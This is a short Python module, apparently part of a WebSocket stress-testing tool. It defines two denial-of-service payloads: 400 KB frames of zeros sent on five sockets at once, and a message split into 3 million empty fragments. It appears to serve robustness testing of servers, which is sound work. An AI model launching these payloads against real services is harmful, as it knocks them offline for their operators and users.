"""WebSocket frames and TCP texts that are small to send and long to read."""

import asyncio

from siege.target import Assault, Target
from siege.wire import CONTINUATION, TEXT, converse, frame


def frames_of_zeros(target: Target) -> Assault:
    """Frames `[0,0,…]` of 400 KB, on five sockets at once."""
    sent = frame(TEXT, b"[" + b"0," * 199_000 + b"0]")

    async def assault() -> str:
        return " ".join(await asyncio.gather(*(converse(target, sent) for _ in range(5))))

    return assault


def empty_fragments(target: Target) -> Assault:
    """A message in 3 million empty fragments."""
    sent = frame(TEXT, b"", last=False) + frame(CONTINUATION, b"", last=False) * 3_000_000 + frame(CONTINUATION, b"{}")
    return lambda: converse(target, sent)


ATTACKS = (frames_of_zeros, empty_fragments)
